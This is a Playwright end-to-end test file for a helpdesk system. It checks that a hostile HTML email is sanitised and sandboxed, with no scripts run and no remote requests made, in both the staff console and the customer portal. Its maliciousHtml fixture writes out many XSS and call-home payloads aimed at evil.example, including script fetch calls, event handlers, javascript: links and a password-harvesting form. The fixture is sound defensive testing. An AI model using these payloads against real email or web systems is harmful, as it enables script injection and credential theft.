import { queryDatabase, waitFor } from '@helpdesk/testing';
import type { Browser, Frame, Page, Response } from 'playwright-core';
import { browse, launchBrowser, saveScreenshot, seriousAccessibilityViolations, signIn, type BrowsingSession } from './support/browser';
import { startBrowserSystem } from './support/system';
import { admin } from '../e2e/support/system';
import { startEmailSystem, supportAddress, type EmailSystem } from '../e2e/support/email-system';

/**
 * A malicious HTML email (issue 14 §3), delivered the real way (a private Dovecot, mail-ingest's
 * sweep, the sanitiser, the tickets service's filing) and opened in the staff console and in the
 * portal: its HTML is shown in a sandboxed frame under the document's own policy, so no script runs,
 * no request leaves the page until the agent asks for the remote images, and then only theirs.
 */

/** Every way an email tries to run something or call home; each payload would leave a trace. */
function maliciousHtml(mark: string, remoteImage: string): string {
  return `<html><head>
<meta http-equiv="refresh" content="0;url=https://evil.example/${mark}/refresh">
<link rel="stylesheet" href="https://evil.example/${mark}/style.css">
<style>body { background: url(https://evil.example/${mark}/css-background) } p { color: red }</style>
<script>window.top.name = 'script-${mark}'; top.document.title = 'pwned'; fetch('https://evil.example/${mark}/script');</script>
<base href="https://evil.example/${mark}/">
</head><body onload="window.top.name = 'onload-${mark}'">
<p>Dear support, the printer <b>is on fire</b> (${mark}).</p>
<p><img src="${remoteImage}" alt="Logo of ${mark}" width="40" height="20"></p>
<img src="x" onerror="window.top.name = 'onerror-${mark}'">
<svg xmlns="http://www.w3.org/2000/svg" onload="window.top.name = 'svg-${mark}'"><script>window.top.name = 'svg-script-${mark}'</script><image href="https://evil.example/${mark}/svg-image.png"/></svg>
<p><a href="javascript:window.top.name = 'link-${mark}'">Open the report of ${mark}</a></p>
<p style="background-image: url(https://evil.example/${mark}/inline-background)">Styled ${mark}</p>
<iframe src="https://evil.example/${mark}/frame"></iframe><object data="https://evil.example/${mark}/object"></object>
<form action="https://evil.example/${mark}/form"><input name="password"><button>Send ${mark}</button></form>
<div onmouseover="window.top.name = 'hover-${mark}'">Hover over ${mark}</div>
</body></html>`;
}

const openingImage = 'https://evil.example/opening/remote-image.png';
const replyImage = 'https://evil.example/reply/remote-image.png';

describe('a malicious HTML email shown in both consoles', () => {
  let mail: EmailSystem & { system: { origin: string } };
  let browser: Browser;
  const anna = { email: 'anna@acme.example', password: 'annas portal password', id: '' };
  let ticket: { id: string; number: number };

  beforeAll(async () => {
    [mail, browser] = await Promise.all([startEmailSystem((options) => startBrowserSystem(options.env)), launchBrowser()]);
    const customer = await mail.addCustomer('Acme', ['acme.example'], [anna.email]);
    anna.id = customer.contacts[anna.email]!;

    const opening = await mail.deliver({ from: `Anna <${anna.email}>`, to: supportAddress, subject: 'Printer on fire', text: 'The printer is on fire (opening).', html: maliciousHtml('opening', openingImage) });
    const filed = await mail.recordOf(opening);
    expect(filed).toMatchObject({ state: 'filed', ticket: { id: expect.any(String) } });
    ticket = filed.ticket;
    const reply = await mail.deliver({
      from: `Anna <${anna.email}>`, to: supportAddress, subject: `Re: [Ticket #${ticket.number}] Printer on fire`, inReplyTo: opening, references: [opening],
      text: 'Still on fire (reply).', html: maliciousHtml('reply', replyImage),
    });
    expect(await mail.recordOf(reply)).toMatchObject({ state: 'filed', ticket: { id: ticket.id } });
    await annaGetsAPortalLogin();
  }, 180_000);

  afterAll(async () => {
    await browser?.close();
    await mail?.stop();
  });

  /** The email system switched the invitation email off: on again, Anna invited, her invitation accepted. */
  async function annaGetsAPortalLogin() {
    const invitationEmail = (await mail.api('GET', '/api/emails/system')).body.items.find((item: { key: string }) => item.key === 'portal_invitation');
    expect((await mail.api('PATCH', '/api/emails/system/portal_invitation', { enabled: true, version: invitationEmail.version })).status).toBe(200);
    const invitations = () => mail.system.smtp.received.filter((m) => m.to.includes(anna.email) && /invitation/i.test(m.parsed.subject ?? ''));
    await waitFor(async () => {
      const rows = await queryDatabase<{ enabled: boolean }>(mail.system.services.customers.databaseUrl, "SELECT enabled FROM projected_system_emails WHERE key = 'portal_invitation'");
      return rows[0]?.enabled === true;
    }, { what: 'the customers service to know the invitation email is on' });
    expect((await mail.api('POST', `/api/contacts/${anna.id}/enable-login`)).status).toBe(200);
    await waitFor(() => invitations().length > 0, { timeoutMs: 30_000, what: 'the invitation to Anna' });
    const token = /\/portal\/invitation\?token=([^\s"<>]+)/.exec(invitations().at(-1)!.parsed.text ?? '')?.[1];
    expect(token).toBeDefined();
    const accepted = await mail.system.api('POST', '/api/portal/invitations/accept', { body: { token: decodeURIComponent(token!), password: anna.password } });
    expect(accepted.status).toBe(200);
  }

  /** The email documents the page loaded, with the headers the browser received for each. */
  function emailDocuments(page: Page): Response[] {
    const documents: Response[] = [];
    page.on('response', (response) => {
      if (/\/html$/.test(new URL(response.url()).pathname)) documents.push(response);
    });
    return documents;
  }

  /** The frame of the email whose text names `mark`, once its document has loaded. */
  async function emailFrame(page: Page, title: RegExp | string, mark: string): Promise<Frame> {
    const element = page.getByTitle(title);
    await element.scrollIntoViewIfNeeded();
    const frame = (await element.elementHandle())!.contentFrame();
    const content = (await frame)!;
    await content.getByText(`the printer is on fire (${mark})`, { exact: false }).waitFor();
    return content;
  }

  /**
   * Nothing of any payload happened: the page's name and title are its own, and no page error — a script
   * left in the email would be refused by the frame's sandbox, and Chromium would log "Blocked script execution".
   */
  async function expectNothingRan(session: BrowsingSession, title: string) {
    expect(await session.page.evaluate(() => window.name)).toBe('');
    expect(await session.page.title()).toBe(title);
    expect(session.pageErrors).toEqual([]);
    expect(session.context.pages()).toHaveLength(1);
  }

  /**
   * What the email's document holds, read by the page itself (the frame is same-origin): no script of
   * the test runs inside the frame, where the sandbox would refuse it (and say so among pageErrors).
   */
  function emailDocument(page: Page, titlePrefix: string) {
    return page.evaluate((prefix) => {
      const frame = [...document.querySelectorAll('iframe')].find((candidate) => candidate.title.startsWith(prefix))!;
      const inner = frame.contentDocument!;
      return {
        title: inner.title,
        // The frame is as tall as its email: nothing hidden behind an inner scroll bar.
        fits: inner.documentElement.scrollHeight <= frame.clientHeight,
        images: [...inner.images].map((image) => [image.getAttribute('src'), image.getAttribute('data-remote-src'), image.getAttribute('alt')]),
        active: inner.querySelectorAll('script, svg, iframe, object, form, input, link, meta[http-equiv], base, [onload], [onerror], [onmouseover], [href^="javascript:" i]').length,
      };
    }, titlePrefix);
  }

  async function expectNothingHappensOnTouch(session: BrowsingSession, frame: Frame, mark: string) {
    const address = session.page.url();
    // The javascript: link lost its target: clicking it goes nowhere and runs nothing.
    const link = frame.getByText(`Open the report of ${mark}`);
    expect(await link.getAttribute('href')).toBeNull();
    await link.click();
    await frame.getByText(`Hover over ${mark}`).hover();
    await session.page.waitForTimeout(300);
    expect(session.page.url()).toBe(address);
  }

  test('in the staff console: no script runs, nothing leaves the page until the agent shows the remote images, then only those', async () => {
    const session = await browse(browser, mail.system.origin);
    try {
      const { page } = session;
      const documents = emailDocuments(page);
      await signIn(page, 'staff', admin);
      await page.goto(`/staff/tickets/${ticket.id}`);
      await page.getByRole('heading', { level: 1, name: `#${ticket.number} Printer on fire` }).waitFor();
      // The page's own title (its heading's), which no script of the email may change.
      const pageTitle = `#${ticket.number} Printer on fire · Helpdesk`;
      await waitFor(async () => (await page.title()) === pageTitle, { what: 'the ticket page\'s title' });
      const opening = await emailFrame(page, 'The email that opened the ticket', 'opening');
      await emailFrame(page, /^The email of /, 'reply');

      // What the browser received through the gateway: the document's own policy, framed by our pages only.
      expect(documents.length).toBeGreaterThanOrEqual(2);
      for (const document of documents) {
        const headers = await document.allHeaders();
        expect(headers).toMatchObject({
          'content-type': 'text/html; charset=utf-8',
          'content-security-policy': expect.stringMatching(/^default-src 'none'; img-src 'self' data:; style-src 'unsafe-inline'; .*sandbox allow-same-origin allow-popups allow-popups-to-escape-sandbox; frame-ancestors 'self'$/),
          'x-frame-options': 'SAMEORIGIN',
          'x-content-type-options': 'nosniff',
        });
      }
      // The sanitised HTML kept the text, the inert image and a link without a target; nothing active.
      for (const [title, image, mark] of [['The email that opened the ticket', openingImage, 'opening'], ['The email of ', replyImage, 'reply']] as const) {
        expect(await emailDocument(page, title)).toEqual({ title: 'Email', fits: true, images: [[null, image, `Logo of ${mark}`]], active: 0 });
      }
      await expectNothingHappensOnTouch(session, opening, 'opening');
      await expectNothingRan(session, pageTitle);
      expect(session.requestsElsewhere).toEqual([]);

      // Both frames say so; the agent shows the opening email's remote images: only that image is asked for.
      await expect(page.getByText('A remote image is blocked').count()).resolves.toBe(2);
      expect(await seriousAccessibilityViolations(page)).toEqual([]);
      await saveScreenshot(page, 'staff-email-html');
      await page.getByRole('button', { name: 'Show remote images' }).first().click();
      await page.getByText('Remote images are shown for this email.').waitFor();
      await waitFor(() => session.requestsElsewhere.length > 0, { what: 'the remote image asked for' });
      // Now of an opaque origin (remote-images.browser.test.ts): the page cannot read it, the test reads it from outside.
      const shown = await emailFrame(page, 'The email that opened the ticket', 'opening');
      expect(await page.evaluate(() => document.querySelector('iframe')!.contentDocument)).toBeNull();
      expect([await shown.locator('img').getAttribute('src'), await shown.locator('img').getAttribute('data-remote-src'), await shown.locator('img').getAttribute('alt')]).toEqual([openingImage, null, 'Logo of opening']);
      const allowed = documents.at(-1)!;
      expect(allowed.url()).toMatch(/\/html\?remote=allow$/);
      expect((await allowed.allHeaders())['content-security-policy']).toMatch(/img-src 'self' data: https: http:;/);
      await page.waitForTimeout(500);
      expect(session.requestsElsewhere).toEqual([openingImage]);
      await expectNothingRan(session, pageTitle);
      await expect(page.getByRole('button', { name: 'Show remote images' }).count()).resolves.toBe(1);
    } finally {
      await session.close();
    }
  });

  test('in the portal, on a phone: no script runs, nothing leaves the page, remote images stay blocked with no way to load them', async () => {
    const session = await browse(browser, mail.system.origin, { phone: true });
    try {
      const { page } = session;
      await signIn(page, 'portal', anna);
      await page.goto(`/portal/tickets/${ticket.id}`);
      await page.getByRole('heading', { level: 1, name: `#${ticket.number} Printer on fire` }).waitFor();
      // The page's own title (its heading's), which no script of the email may change.
      const pageTitle = `#${ticket.number} Printer on fire · Helpdesk`;
      await waitFor(async () => (await page.title()) === pageTitle, { what: 'the ticket page\'s title' });
      await emailFrame(page, 'The email that opened the ticket', 'opening');
      const reply = await emailFrame(page, /^The email of /, 'reply');
      for (const [title, image, mark] of [['The email that opened the ticket', openingImage, 'opening'], ['The email of ', replyImage, 'reply']] as const) {
        expect(await emailDocument(page, title)).toEqual({ title: 'Email', fits: true, images: [[null, image, `Logo of ${mark}`]], active: 0 });
      }
      await expectNothingHappensOnTouch(session, reply, 'reply');
      await expect(page.getByText('A remote image is blocked').count()).resolves.toBe(2);
      expect(await page.getByRole('button', { name: 'Show remote images' }).count()).toBe(0);
      expect(await seriousAccessibilityViolations(page)).toEqual([]);
      await saveScreenshot(page, 'portal-email-html-phone');
      await expectNothingRan(session, pageTitle);
      expect(session.requestsElsewhere).toEqual([]);
    } finally {
      await session.close();
    }
  });
});
